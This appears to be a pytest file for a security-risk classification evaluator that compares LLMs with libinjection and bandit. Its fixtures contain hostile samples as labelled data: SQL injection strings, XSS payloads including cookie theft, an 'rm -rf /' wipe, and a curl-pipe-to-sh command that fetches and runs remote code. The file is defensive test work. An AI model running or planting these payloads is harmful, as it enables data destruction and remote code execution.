"""`fwyy eval`: figures on hand-made predictions, the two data formats, the classical detectors,
and real runs.

The metric tests are pure (predictions written by hand, figures worked out by hand in the
comments). The detector tests run the real libinjection and bandit. The run tests use the real
demo GGUF through llama.cpp under the report grammar, the real `ollama` client against the loopback
daemon, and a real transformers + PEFT model (tiny, random weights): they prove the plumbing, the
constraint and the cache, not a model's quality.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from fwyy_ollama import evaluation as ev
from fwyy_ollama.cli import cli
from fwyy_ollama.dataset.records import write_records
from fwyy_ollama.errors import FwyyError
from fwyy_ollama.evaluation import detectors, scoring
from fwyy_ollama.evaluation.specs import resolve
from fwyy_ollama.report import Label, Report, render_report, report_json_schema
from tests.fake_ollama import fake_ollama_fixture  # noqa: F401  (registers fixture "fake_ollama")


def _p(
    category: str,
    risky: bool,
    gold: str | None,
    predicted: str | None,
    parsed: bool,
    latency: float,
) -> ev.Prediction:
    verdict = None if predicted is None else predicted != "safe"
    return ev.Prediction("k", category, risky, gold, predicted, verdict, parsed, latency, 10, "answer")


HAND_MADE = [
    _p("sqli", True, "high", "high", True, 1.0),  # verdict tp, label right
    _p("sqli", True, "high", "medium", True, 2.0),  # tp, label wrong
    _p("sqli", False, "safe", "low", True, 3.0),  # fp, label wrong
    _p("xss", True, None, "safe", True, 4.0),  # fn; severity unknown: not in the 5-way figures
    _p("xss", False, None, None, False, 5.0),  # no label on a safe item: wrong, but not fp
    _p("bash", True, "critical", None, False, 6.0),  # no label on a risky item: fn
    _p("python", False, "safe", "safe", True, 7.0),  # tn, label right
    _p("python", True, "medium", "critical", False, 8.0),  # tp (label from a loose line), label wrong
]


def test_metrics_on_a_hand_made_set() -> None:
    m = ev.compute_metrics(HAND_MADE)
    assert m.n == 8
    assert m.verdicts == {"tp": 3, "fp": 1, "tn": 1, "fn": 2, "none": 2}
    assert m.risky_accuracy == pytest.approx(4 / 8)  # tp + tn
    assert m.precision == pytest.approx(3 / 4)
    assert m.recall == pytest.approx(3 / 5)
    assert m.f1 == pytest.approx(2 / 3)  # 2 * 0.75 * 0.6 / 1.35
    # 6 items have a known severity; 2 of them are labelled right.
    assert m.n_labelled == 6 and m.label_accuracy == pytest.approx(2 / 6)
    assert m.confusion["high"] == {"safe": 0, "low": 0, "medium": 1, "high": 1, "critical": 0, "none": 0}
    assert m.confusion["critical"]["none"] == 1 and m.confusion["medium"]["critical"] == 1
    assert sum(sum(row.values()) for row in m.confusion.values()) == 6
    # F1 per label: safe P 1/1 R 1/2 -> 2/3; low (predicted once, never gold) 0; medium 0;
    # high P 1/1 R 1/2 -> 2/3; critical 0: macro-F1 = (2/3 + 2/3) / 5 = 4/15
    assert m.per_label["safe"]["recall"] == pytest.approx(0.5)
    assert m.per_label["low"]["support"] == 0
    assert m.macro_f1 == pytest.approx(4 / 15)
    assert m.format_compliance == pytest.approx(5 / 8)
    assert m.mean_latency_s == pytest.approx(4.5)
    assert m.tokens_per_s == pytest.approx(80 / 36)

    sqli, xss, bash, python = (m.per_category[c] for c in ("sqli", "xss", "bash", "python"))
    assert list(m.per_category) == ["bash", "python", "sqli", "xss"]
    # sqli: tp 2, fp 1 -> accuracy 2/3, precision 2/3, recall 1, F1 0.8; labels 1 of 3 right
    assert (sqli["n"], sqli["risky_accuracy"], sqli["recall"]) == (3, pytest.approx(2 / 3), 1.0)
    assert sqli["f1"] == pytest.approx(0.8) and sqli["label_accuracy"] == pytest.approx(1 / 3)
    # xss: no severity known -> no 5-way figure at all (None, not 0)
    assert xss["risky_accuracy"] == 0.0 and xss["n_labelled"] == 0 and xss["label_accuracy"] is None
    assert xss["macro_f1"] is None
    assert bash["risky_accuracy"] == 0.0 and bash["label_accuracy"] == 0.0
    assert python["risky_accuracy"] == 1.0 and python["f1"] == 1.0 and python["label_accuracy"] == 0.5


def test_metrics_edge_cases() -> None:
    empty = ev.compute_metrics([])
    assert empty.n == 0 and empty.risky_accuracy is None and empty.label_accuracy is None
    perfect = ev.compute_metrics(
        [_p("sqli", True, "low", "low", True, 1.0), _p("sqli", False, "safe", "safe", True, 1.0)]
    )
    assert (perfect.risky_accuracy, perfect.f1, perfect.label_accuracy, perfect.macro_f1) == (
        1.0,
        1.0,
        1.0,
        1.0,
    )
    # Right verdict, wrong severity: safe-vs-risky and 5-way tell different stories.
    near = ev.compute_metrics([_p("sqli", True, "low", "high", True, 1.0)])
    assert near.risky_accuracy == 1.0 and near.label_accuracy == 0.0 and near.macro_f1 == 0.0
    # Always safe: precision of the risky class is 0/0, reported as 0 (not an error).
    never = ev.compute_metrics([_p("bash", True, None, "safe", True, 1.0)])
    assert never.precision == 0.0 and never.recall == 0.0 and never.f1 == 0.0


def test_detector_metrics_leave_label_and_format_out() -> None:
    def verdict(category: str, risky: bool, said: bool) -> ev.Prediction:
        return ev.Prediction("k", category, risky, None, None, said, None, 0.001, None, "")

    preds = [
        verdict("sqli", True, True),  # tp
        verdict("sqli", False, True),  # fp
        verdict("xss", True, False),  # fn
        verdict("xss", False, False),  # tn
    ]
    m = ev.compute_metrics(preds, judge_only=True)
    assert (m.risky_accuracy, m.precision, m.recall, m.f1) == (0.5, 0.5, 0.5, 0.5)
    assert m.label_accuracy is None and m.macro_f1 is None and m.format_compliance is None
    assert m.tokens_per_s is None and m.confusion == {} and m.mean_latency_s == pytest.approx(0.001)
    assert set(m.per_category) == {"sqli", "xss"}


@pytest.mark.parametrize(
    ("answer", "label", "parsed"),
    [
        (render_report(Report("a SQL query", Label.HIGH, "r", "s"), "en"), "high", True),
        (render_report(Report("这条 SQL", Label.CRITICAL, "风险", "修复"), "zh"), "critical", True),
        (json.dumps({"analysis": "a", "label": "low", "risk": "r", "solution": "s"}), "low", True),
        ("**Label:** Medium\nI think it is fine.", "medium", False),  # label but no four parts
        ("标签：低危\n其他内容", "low", False),
        ("It looks dangerous to me.", None, False),
        ("", None, False),
    ],
)
def test_score_answer(answer: str, label: str | None, parsed: bool) -> None:
    got_label, got_parsed, reason = scoring.score_answer(answer)
    assert (got_label, got_parsed) == (label, parsed)
    assert (reason is None) == parsed


def test_model_specs(tmp_path: Path) -> None:
    gguf = tmp_path / "m.gguf"
    gguf.write_bytes(b"GGUF")
    assert ev.parse_model("fwyy-qwen2") == ev.ModelSpec("fwyy-qwen2", "auto", "fwyy-qwen2")
    assert ev.parse_model("ollama:qwen2:7b").target == "qwen2:7b"
    assert ev.parse_model(str(gguf)).kind == "gguf"
    spec = ev.parse_model(f"before=gguf:{gguf}")
    assert (spec.kind, spec.target, spec.display) == ("gguf", str(gguf), "before")
    assert ev.parse_model("base=demo").kind == "gguf" and ev.parse_model("base=demo").display == "base"
    for name in ("libinjection", "bandit", "always-risky"):
        assert ev.parse_model(name) == ev.ModelSpec(name, "detector", name, label=name)
    assert ev.parse_model("li=detector:libinjection").display == "li"

    base = tmp_path / "base"
    base.mkdir()
    (base / "config.json").write_text("{}")
    adapter = tmp_path / "adapter"
    adapter.mkdir()
    (adapter / "fwyy-adapter.json").write_text(json.dumps({"base_model_dir": str(base)}))
    both = ev.parse_model(f"hf:{base}+adapter:{adapter}")
    assert (both.kind, both.target, both.adapter) == ("hf", str(base), adapter)
    assert ev.parse_model(f"adapter:{adapter}").target == str(base)  # base found from the adapter
    assert ev.parse_model(f"hf:{base}").adapter is None

    bad_specs = (
        "",
        "gguf:/no/such.gguf",
        f"hf:{tmp_path}",
        "some/dir",
        f"hf:{base}+lora:{adapter}",
        "detector:x",
    )
    for bad in bad_specs:
        with pytest.raises(FwyyError):
            ev.parse_model(bad)
    (adapter / "fwyy-adapter.json").unlink()
    with pytest.raises(FwyyError, match="cannot tell which base"):
        ev.parse_model(f"adapter:{adapter}")


def test_prompt_language(tmp_path: Path) -> None:
    """Real-world items are asked in the model's language: its profile's, else English."""
    assert ev.prompt_language(ev.parse_model("demo")) == "en"  # the demo profile is English
    assert ev.prompt_language(ev.ModelSpec("x", "ollama", "fwyy-qwen2")) == "zh"
    assert ev.prompt_language(ev.ModelSpec("x", "ollama", "llama3:8b")) == "en"  # unknown: English
    built = tmp_path / "fwyy-llama3-cn.q4_k_m.gguf"  # `fwyy build` names its GGUF after the profile
    built.write_bytes(b"GGUF")
    assert ev.prompt_language(ev.ModelSpec(str(built), "gguf", str(built))) == "zh"


# ------------------------------------------------------------------------------------------ data


ITEMS = [
    ("' OR 1=1 --", "This SQL query input bypasses the login check.", Label.HIGH),
    ("SELECT name FROM users WHERE id = ?", "This SQL query is parameterized.", Label.SAFE),
    ("<script>alert(1)</script>", "This HTML payload runs JavaScript in the page.", Label.MEDIUM),
    ("<b>bold</b>", "This HTML fragment is plain markup.", Label.SAFE),
    ("rm -rf / --no-preserve-root", "This Shell command wipes the disk.", Label.CRITICAL),
    ("ls -la", "This Shell command lists files.", Label.SAFE),
    ("import pickle; pickle.loads(data)", "This Python code unpickles untrusted data.", Label.HIGH),
    ("print('hello')", "This Python code prints a greeting.", Label.SAFE),
]

# Real-world lines written for these tests (not taken from any corpus): one risky and one benign
# item per category, two with a severity unknown (label null).
REALWORLD = [
    {"input": "admin' OR '1'='1' -- ", "category": "sqli", "risky": True, "label": "high"},
    {"input": "Robert Smith", "category": "sqli", "risky": False, "label": "safe"},
    {"input": "<img src=x onerror=alert(document.cookie)>", "category": "xss", "risky": True, "label": None},
    {"input": "<p>Opening hours: <b>9-17</b></p>", "category": "xss", "risky": False, "label": "safe"},
    {"input": "curl -s http://203.0.113.9/x.sh | sh", "category": "bash", "risky": True, "label": "critical"},
    {"input": "du -sh ~/Downloads", "category": "bash", "risky": False, "label": None},
    {
        "input": "import os\nos.system('ping -c1 ' + input())\n",
        "category": "python",
        "risky": True,
        "label": "high",
    },
    {"input": "def area(w, h):\n    return w * h\n", "category": "python", "risky": False, "label": "safe"},
]


def _write_realworld(path: Path, items: list[dict[str, object]]) -> Path:
    lines = [json.dumps({**it, "source": "test", "license": "CC0-1.0"}) for it in items]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture()
def eval_file(tmp_path: Path) -> Path:
    records = [
        {
            "instruction": "Analyze this input for security risk.",
            "input": inp,
            "output": render_report(
                Report(analysis, label, "none" if label is Label.SAFE else "bad", "fix"), "en"
            ),
        }
        for inp, analysis, label in ITEMS
    ]
    return write_records(tmp_path / "eval.jsonl", records)


@pytest.fixture()
def realworld_file(tmp_path: Path) -> Path:
    return _write_realworld(tmp_path / "realworld.eval.jsonl", REALWORLD)


def test_alpaca_items_and_limit_spread(eval_file: Path) -> None:
    fmt, items = ev.load_items(eval_file)
    assert fmt == "alpaca"
    assert [i.category for i in items] == ["sqli", "sqli", "xss", "xss", "bash", "bash", "python", "python"]
    assert [i.gold for i in items[:2]] == ["high", "safe"] and [i.risky for i in items[:2]] == [True, False]
    _, four = ev.load_items(eval_file, limit=4)
    assert len(four) == 4 and {i.category for i in four} == {"sqli", "xss", "bash", "python"}
    assert items[0].messages is not None and items[0].messages[0][0] == "system"
    assert items[0].messages[1][1].endswith("' OR 1=1 --")
    assert all(i.messages is not None and len(i.messages) == 2 for i in items)  # the answer is never sent


def test_realworld_items(realworld_file: Path) -> None:
    fmt, items = ev.load_items(realworld_file)
    assert fmt == "realworld" and len(items) == 8
    first = items[0]
    assert (first.text, first.category, first.risky, first.gold) == (
        "admin' OR '1'='1' -- ",
        "sqli",
        True,
        "high",
    )
    assert (first.source, first.license, first.line, first.messages) == ("test", "CC0-1.0", 1, None)
    assert items[2].gold is None and items[2].group == "risky"
    # The item's cache key follows the language it is asked in.
    assert first.key("en") != first.key("zh")
    # ... and the static-check line it carries: a changed rule asks the model again.
    assert first.key("en", findings=True) != first.key("en")


def test_a_changed_rule_is_asked_again(realworld_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import fwyy_ollama.findings as findings

    _, items = ev.load_items(realworld_file)
    before = items[0].key("en", findings=True)
    monkeypatch.setattr(findings, "findings_line", lambda text, lang="en": "a rule that changed")
    assert items[0].key("en", findings=True) != before
    _, two = ev.load_items(realworld_file, limit=2)
    assert [i.category for i in two] == ["bash", "python"]  # categories first, sorted
    # One per category, half of them risky: a subset of a balanced set stays balanced.
    _, four = ev.load_items(realworld_file, limit=4)
    assert [(i.category, i.risky) for i in four] == [
        ("bash", False),
        ("python", True),
        ("sqli", False),
        ("xss", True),
    ]


def test_realworld_bad_lines_are_named(tmp_path: Path) -> None:
    path = tmp_path / "bad.jsonl"
    good = json.dumps(REALWORLD[0])
    path.write_text(
        "\n".join(
            [
                good,
                "{not json",
                json.dumps({"input": "x", "category": "sql", "risky": True}),
                json.dumps({"input": "", "category": "xss", "risky": "yes"}),
                json.dumps({"input": "x", "category": "bash", "risky": False, "label": "high"}),
                json.dumps({"input": "x", "category": "bash", "risky": True, "label": "severe", "source": 3}),
                "",
            ]
        ),
        encoding="utf-8",
    )
    with pytest.raises(FwyyError) as exc:
        ev.load_items(path)
    text = exc.value.message
    assert f"{path}:2: json: not valid JSON" in text
    assert f"{path}:3: category: 'sql' is not one of sqli, xss, bash, python" in text
    assert f"{path}:4: input: empty" in text and f"{path}:4: risky: expected true or false" in text
    assert f"{path}:5: label: 'high' disagrees with risky false" in text
    assert (
        f"{path}:6: label: 'severe' is not one of" in text and f"{path}:6: source: expected a string" in text
    )
    assert ":1:" not in text  # the good line is not blamed

    proc = subprocess.run(
        [sys.executable, "-m", "fwyy_ollama", "eval", "-m", "always-risky", "--data", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert f"{path}:5: label: 'high' disagrees with risky false" in proc.stderr


def test_format_is_told_per_file(tmp_path: Path, eval_file: Path) -> None:
    assert ev.detect_format(eval_file) == "alpaca"
    unknown = tmp_path / "other.jsonl"
    unknown.write_text('\n{"text": "x", "verdict": 1}\n', encoding="utf-8")
    with pytest.raises(FwyyError, match=rf"{unknown}:2: cannot tell the eval format"):
        ev.load_items(unknown)
    # A real-world line in an Alpaca file is a bad Alpaca record, named by its line.
    mixed = tmp_path / "mixed.jsonl"
    mixed.write_text(eval_file.read_text() + json.dumps(REALWORLD[0]) + "\n", encoding="utf-8")
    with pytest.raises(FwyyError, match=rf"{mixed}:9: "):
        ev.load_items(mixed)
    with pytest.raises(FwyyError, match="no such eval file"):
        ev.load_items(tmp_path / "missing.jsonl")


# ------------------------------------------------------------------------------------------ detectors


@pytest.mark.parametrize(
    ("text", "category", "risky"),
    [
        ("1' OR '1'='1", "sqli", True),
        ("1 UNION SELECT username, password FROM users--", "sqli", True),
        ("Robert Smith", "sqli", False),
        ("hello world", "sqli", False),
        ("<script>alert(1)</script>", "xss", True),
        ('<a href="javascript:alert(1)">x</a>', "xss", True),
        ("<b>hello</b>", "xss", False),
        ("plain text, no markup", "xss", False),
    ],
)
def test_libinjection(text: str, category: str, risky: bool) -> None:
    (verdict,) = detectors.run_detector("libinjection", [(text, category)])
    assert verdict.risky is risky


def test_bandit_on_snippets() -> None:
    verdicts = detectors.run_detector(
        "bandit",
        [
            ("import subprocess\nsubprocess.call(cmd, shell=True)\n", "python"),
            ("import pickle\nobj = pickle.loads(blob)\n", "python"),
            ("def area(w, h):\n    return w * h\n", "python"),
            ("print('hello')\n", "python"),
            ("def broken(:\n", "python"),  # bandit cannot parse it: no finding, and it says so
        ],
    )
    assert [v.risky for v in verdicts] == [True, True, False, False, False]
    assert "B602" in verdicts[0].detail and "B301" in verdicts[1].detail
    assert verdicts[4].error and "bandit" in verdicts[4].error and verdicts[2].error is None


def test_detectors_score_only_their_categories(realworld_file: Path) -> None:
    result = ev.evaluate(["libinjection", "bandit", "always-risky"], data=realworld_file)
    li, bandit, always = result.models
    assert set(li.metrics.per_category) == {"sqli", "xss"} and li.metrics.n == 4
    assert set(bandit.metrics.per_category) == {"python"} and bandit.metrics.n == 2
    assert always.metrics.n == 8 and always.metrics.risky_accuracy == 0.5 and always.metrics.recall == 1.0
    assert li.metrics.risky_accuracy == 1.0 and bandit.metrics.risky_accuracy == 1.0
    assert all(
        m.metrics.label_accuracy is None and m.metrics.format_compliance is None for m in result.models
    )

    out = CliRunner().invoke(
        cli, ["eval", "--data", str(realworld_file), "-m", "libinjection", "-m", "bandit", "--markdown"]
    )
    assert out.exit_code == 0, out.output
    lines = {
        line.split("|")[1].strip(): [c.strip() for c in line.split("|")[2:-1]]
        for line in out.output.splitlines()[2:]
    }
    assert lines["items scored"] == ["4", "2"]
    assert lines["sqli safe-vs-risky"] == ["100.0%", "—"] and lines["python safe-vs-risky"] == ["—", "100.0%"]
    assert lines["5-way label accuracy"] == ["—", "—"] and lines["bash risky F1"] == ["—", "—"]


# ------------------------------------------------------------------------------------------ runs


def test_eval_demo_gguf_constrained(
    realworld_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The untuned base (`base=demo`) on real-world items under the report grammar: every answer parses."""
    monkeypatch.setenv("FWYY_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("FWYY_THREADS", "1")
    plot = tmp_path / "eval.png"
    args = ["eval", "-m", "base=demo", "-m", "libinjection", "--data", str(realworld_file), "--limit", "4"]
    first = CliRunner().invoke(cli, [*args, "--json", "--answers", "--plot", str(plot)])
    assert first.exit_code == 0, first.output
    data = json.loads(first.stdout)
    assert data["n"] == 4 and data["format"] == "realworld" and len(data["models"]) == 2
    m, li = data["models"]
    assert (m["model"], m["backend"], m["constrain"], m["lang"], m["cached"]) == (
        "base",
        "local",
        True,
        "en",
        0,
    )
    assert m["n"] == 4 and m["format_compliance"] == 1.0  # the grammar: every answer is a report
    assert all(p["predicted"] in ev.LABELS and p["parsed"] for p in m["predictions"])
    assert m["mean_latency_s"] > 0 and m["tokens_per_s"] > 0
    assert li["backend"] == "detector" and li["categories"] == ["sqli", "xss"] and li["n"] == 2
    assert plot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"

    # Second run: every answer from the cache, same figures; the table shows both rows.
    again = CliRunner().invoke(cli, [*args, "--json"])
    m2 = json.loads(again.stdout)["models"][0]
    assert m2["cached"] == 4 and m2["risky_accuracy"] == m["risky_accuracy"]
    assert m2["mean_latency_s"] == m["mean_latency_s"]
    table = CliRunner().invoke(cli, args)
    assert "safe-vs-risky accuracy" in table.output and "constrained" in table.output


def test_eval_ollama_constrained_and_free(
    realworld_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_ollama
) -> None:  # type: ignore[no-untyped-def]
    """--both asks each model constrained (JSON schema as format) and free; the cache keeps them apart."""
    monkeypatch.setenv("FWYY_CACHE", str(tmp_path / "cache"))
    fake_ollama.add_model("fwyy-qwen2")
    fake_ollama.replies["fwyy-qwen2:latest"] = json.dumps(
        {"analysis": "a", "label": "high", "risk": "r", "solution": "s"}
    )
    result = ev.evaluate(["fwyy-qwen2"], data=realworld_file, both=True)
    constrained, free = result.models
    assert (constrained.name, constrained.constrain, free.name, free.constrain) == (
        "fwyy-qwen2 constrained",
        True,
        "fwyy-qwen2 free",
        False,
    )
    # "always high": 4 of 8 verdicts right, recall 1, precision 1/2; of the 6 known severities,
    # the 2 high ones are right.
    for m in (constrained, free):
        assert m.metrics.risky_accuracy == 0.5 and m.metrics.recall == 1.0 and m.metrics.precision == 0.5
        assert m.metrics.n_labelled == 6 and m.metrics.label_accuracy == pytest.approx(2 / 6)
        assert m.metrics.format_compliance == 1.0 and m.lang == "zh"  # fwyy-qwen2's profile is Chinese
    chats = [r.body for r in fake_ollama.requests_to("/api/chat")]
    assert len(chats) == 16
    assert all(c["format"] == report_json_schema() for c in chats[:8])
    assert all(not c.get("format") for c in chats[8:])
    assert chats[0]["messages"][1]["content"].startswith("分析以下输入的安全风险。")  # as `fwyy analyze` asks
    assert chats[0]["options"]["temperature"] == 0

    again = ev.evaluate(["fwyy-qwen2"], data=realworld_file, constrain=False)
    assert again.models[0].cached == 8 and len(fake_ollama.requests_to("/api/chat")) == 16
    # --lang overrides the model's language: a new question (its own cache entry), asked in English.
    english = ev.evaluate(["fwyy-qwen2"], data=realworld_file, constrain=False, lang="en", limit=1)
    assert english.models[0].cached == 0 and english.models[0].lang == "en"
    assert (
        fake_ollama.requests_to("/api/chat")[-1]
        .body["messages"][1]["content"]
        .startswith("Analyze the following input for security risks.")
    )


def test_eval_scores_the_veto_as_analyze_reports_it(
    realworld_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_ollama
) -> None:  # type: ignore[no-untyped-def]
    """A model that says "safe" to everything: the shell pipe and os.system on input are veto rules,
    the tautology and the cookie theft are not (benign training inputs trip them), so 6 of 8
    verdicts are right; --no-veto scores the same cached answers as the model gave them."""
    monkeypatch.setenv("FWYY_CACHE", str(tmp_path / "cache"))
    fake_ollama.add_model("fwyy-llama3")
    fake_ollama.replies["fwyy-llama3:latest"] = json.dumps(
        {"analysis": "a", "label": "safe", "risk": "r", "solution": "s"}
    )
    vetoed = ev.evaluate(["fwyy-llama3"], data=realworld_file)
    m = vetoed.models[0]
    assert vetoed.settings["veto"] is True and m.metrics.risky_accuracy == 0.75
    assert [p.raised_by for p in m.predictions] == [
        None, None, None, None, "bash:pipe_sh", None, "python:shell_input", None
    ]
    assert [p.predicted for p in m.predictions][4:6] == ["high", "safe"]
    plain = ev.evaluate(["fwyy-llama3"], data=realworld_file, veto=False)
    assert plain.models[0].cached == 8 and plain.models[0].metrics.risky_accuracy == 0.5
    assert all(p.raised_by is None and p.predicted == "safe" for p in plain.models[0].predictions)
    off = ev.evaluate(["fwyy-llama3"], data=realworld_file, findings=False)  # no static checks at all
    assert off.settings["veto"] is False and off.models[0].metrics.risky_accuracy == 0.5


def test_eval_ollama_alpaca_side_by_side(
    eval_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake_ollama
) -> None:  # type: ignore[no-untyped-def]
    """Alpaca records are asked as trained; scripted answers give exact figures."""
    monkeypatch.setenv("FWYY_CACHE", str(tmp_path / "cache"))
    fake_ollama.add_model("fwyy-smollm2")
    fake_ollama.add_model("plain")
    fake_ollama.replies["fwyy-smollm2:latest"] = render_report(
        Report("a", Label.SAFE, "none", "nothing"), "en"
    )
    fake_ollama.replies["plain:latest"] = "Label: high. It looks dangerous."  # a label, not four parts

    # The models' own labels (the veto is scored in test_eval_scores_the_veto_as_analyze_reports_it).
    result = ev.evaluate(
        ["fwyy-smollm2", "ollama:plain"], data=eval_file, max_tokens=32, constrain=False, veto=False
    )
    tuned, plain = result.models
    assert tuned.backend == "ollama"  # a bare name goes to the daemon when it has the model
    # 4 safe and 4 risky records: "always safe" is right on 4 of 8 and finds nothing.
    assert tuned.metrics.label_accuracy == pytest.approx(4 / 8) and tuned.metrics.format_compliance == 1.0
    assert tuned.metrics.risky_accuracy == 0.5 and tuned.metrics.recall == 0.0
    assert tuned.metrics.macro_f1 == pytest.approx((2 / 3) / 4)  # safe 2/3; high, medium, critical 0
    assert plain.metrics.label_accuracy == pytest.approx(2 / 8) and plain.metrics.format_compliance == 0.0
    assert plain.metrics.risky_accuracy == 0.5 and plain.metrics.recall == 1.0
    assert plain.predictions[0].error and "missing" in plain.predictions[0].error

    chat = fake_ollama.requests_to("/api/chat")[-1].body
    assert [m["role"] for m in chat["messages"]] == ["system", "user"]  # the gold answer is never sent
    assert chat["messages"][1]["content"].startswith("Analyze this input for security risk.")
    assert chat["options"]["num_predict"] == 32 and not chat.get("format")


def test_eval_hf_base_with_adapter(
    tiny_llama_dir: Path, eval_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A transformers base + PEFT adapter answers through the same eval (tiny random model)."""
    import torch
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM

    monkeypatch.setenv("FWYY_CACHE", str(tmp_path / "cache"))
    torch.manual_seed(0)
    model = get_peft_model(
        AutoModelForCausalLM.from_pretrained(tiny_llama_dir), LoraConfig(r=4, target_modules=["q_proj"])
    )
    adapter = tmp_path / "adapter"
    model.save_pretrained(adapter)
    (adapter / "fwyy-adapter.json").write_text(json.dumps({"base_model_dir": str(tiny_llama_dir)}))

    result = ev.evaluate([f"lora=adapter:{adapter}"], data=eval_file, limit=1, max_tokens=4, both=True)
    (m,) = result.models  # transformers takes no grammar: one row, however asked
    assert m.backend == "hf" and m.name == "lora" and m.constrain is None and m.metrics.n == 1
    assert m.predictions[0].tokens


def test_bare_name_without_daemon_uses_the_build_or_demo(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket

    with socket.socket() as s:  # a loopback port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    monkeypatch.setenv("OLLAMA_HOST", f"http://127.0.0.1:{port}")
    monkeypatch.chdir(tmp_path)  # no out/fwyy-smollm2 build here: the demo GGUF stands in
    spec = resolve(ev.parse_model("fwyy-smollm2"))
    assert spec.kind == "gguf" and spec.target.endswith("SmolLM2-135M-Instruct.Q4_1.gguf")
    built = tmp_path / "out" / "fwyy-smollm2" / "fwyy-smollm2.q4_k_m.gguf"
    built.parent.mkdir(parents=True)
    built.write_bytes(b"GGUF")
    assert resolve(ev.parse_model("fwyy-smollm2")).target == str(
        Path("out/fwyy-smollm2/fwyy-smollm2.q4_k_m.gguf")
    )


def test_old_import_path_still_works() -> None:
    from fwyy_ollama.evaluate import evaluate, markdown_table, plot

    assert evaluate is ev.evaluate and markdown_table is ev.markdown_table and plot is ev.plot


def test_an_over_long_line_is_refused_unread(tmp_path: Path) -> None:
    """The eval reads hostile files through the dataset's bounded line reader, in both formats."""
    from fwyy_ollama.dataset.records import MAX_LINE_BYTES

    good = json.dumps({"input": "x", "category": "sqli", "risky": True})
    huge = json.dumps({"input": "y" * (MAX_LINE_BYTES + 1), "category": "sqli", "risky": True})
    path = tmp_path / "rw.jsonl"
    path.write_text(good + "\n" + huge + "\n")
    with pytest.raises(FwyyError, match=rf"rw.jsonl:2: size: line longer than {MAX_LINE_BYTES} bytes"):
        ev.load_items(path)
    path.write_text(huge + "\n")
    with pytest.raises(FwyyError, match=rf"rw.jsonl:1: size: line longer than {MAX_LINE_BYTES} bytes"):
        ev.load_items(path)
